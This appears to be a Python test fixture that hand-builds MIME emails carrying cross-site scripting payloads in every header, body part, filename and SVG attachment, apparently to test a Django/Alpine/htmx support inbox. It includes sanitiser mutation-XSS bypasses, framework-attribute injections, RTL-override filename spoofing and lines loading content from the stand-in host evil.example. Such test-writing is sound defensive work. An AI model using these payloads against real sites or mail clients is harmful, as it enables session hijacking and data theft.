"""Mail that tries to run in the reader's browser, in every field that we show."""

import base64

# Whatever runs leaves this behind.
RUN = "__xss=1"

# A name may be 200 characters long: as many shapes together as fit, so that few mails
# try them all. Each begins by leaving the attribute or the text that it stands in.
_TAGS = (
    (
        f'"><script>{RUN}</script>'
        f'"><img src=x onerror="{RUN}">'
        f'\'><svg onload="{RUN}">'
        f"</title></textarea></style><svg/onload={RUN}>"
    ),
    # Alpine and htmx are on the page: their attributes are scripts too.
    (
        f'"><div x-data x-init="{RUN}"></div>'
        f'"><div x-data x-html="\'<img src=x onerror={RUN}>\'"></div>'
        '"><p hx-get="https://evil.example/" hx-trigger="load"></p>'
        f'"><p hx-on:htmx:load="{RUN}"></p>'
    ),
    # Django's and JavaScript's ways to put a value in, and names that deceive.
    (
        "{{ request.user.password }}{% debug %}"
        f"${{{RUN}}}`${{{RUN}}}`"
        '"><img src=//evil.example/n.png><base href=//evil.example/>'
        "\u202e\u2066exe.fdp\u2069 javascript:alert(1)"
    ),
)

# In the name of a file no slash survives.
_FILENAME = f'"><img src=x onerror={RUN}>.html'

# Shapes that a sanitiser which parses otherwise than the browser lets through.
_MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href='java&#10;script:{RUN}' autofocus onfocus='{RUN}'>hier</a>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<body onload='{RUN}' background='https://evil.example/b.png'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=/e.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/e.css';*{background:url(https://evil.example/c)}</style>",
    "<img src='https://evil.example/i.png' srcset='https://evil.example/s.png 2x'>",
    "<video poster='https://evil.example/p.png'><source src='https://evil.example/v'></video>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<div style='background:url(https://evil.example/d)' class='submit-row' id=content>x</div>",
    "<img id=body name=cookie><form id=location action='https://evil.example/'><input name=attributes></form>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<div x-data x-init=\"{RUN}\" hx-get='https://evil.example/' hx-trigger=load>x</div>",
)


def mails():
    """Bytes: a thread for each group of tags, and every shape of HTML in one of them."""
    shapes = [*_MUTATIONS, "".join(_MUTATIONS)]
    for number, html in enumerate(shapes):
        yield _mail(number, number % len(_TAGS), html)


def _mail(number, group, html):
    """Written by hand: a library would refuse half of it."""
    shape = _TAGS[group]
    word = base64.b64encode(shape.encode()).decode()
    encoded = "\r\n ".join(
        f"=?utf-8?B?{base64.b64encode(shape[at : at + 24].encode()).decode()}?="
        for at in range(0, len(shape), 24)
    )
    quoted = (
        shape.encode("ascii", "replace").decode().replace("\\", "").replace('"', '\\"')
    )
    identifier = (
        shape.encode("ascii", "ignore").decode().replace(" ", "").replace(">", "")
    )
    return "\r\n".join(
        [
            f"From: {encoded} <klant{group}@bedrijf.nl>",
            f'To: "{quoted}" <support@shop.nl>',
            f"Cc: {encoded} <collega{number}@bedrijf.nl>",
            f"Reply-To: {encoded} <antwoord{number}@bedrijf.nl>",
            f"Subject: {encoded}",
            f"Message-ID: <{identifier}.{number}@bedrijf.nl>",
            f"In-Reply-To: <{identifier}-before@bedrijf.nl>",
            f"References: <begin-{group}@bedrijf.nl>",
            "Date: Wed, 25 Feb 2026 10:30:00 +0100",
            f"X-Mailer: {quoted}",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b",
            'Content-Type: multipart/alternative; boundary="c"',
            "",
            "--c",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            word,
            "--c",
            "Content-Type: text/html; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            base64.b64encode(f"<html><body>{html}</body></html>".encode()).decode(),
            "--c--",
            "--b",
            f"Content-Type: text/html; name*=utf-8''{_percent(_FILENAME)}",
            f"Content-Disposition: attachment; filename*=utf-8''{_percent(_FILENAME)}",
            f"Content-ID: <{identifier}>",
            "Content-Transfer-Encoding: base64",
            "",
            base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
            "--b",
            "Content-Type: image/svg+xml",
            "Content-Disposition: inline; filename=logo.svg",
            "Content-Transfer-Encoding: base64",
            "",
            base64.b64encode(
                f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()
            ).decode(),
            "--b--",
            "",
        ]
    ).encode()


def _percent(text):
    return "".join(f"%{byte:02X}" for byte in text.encode())
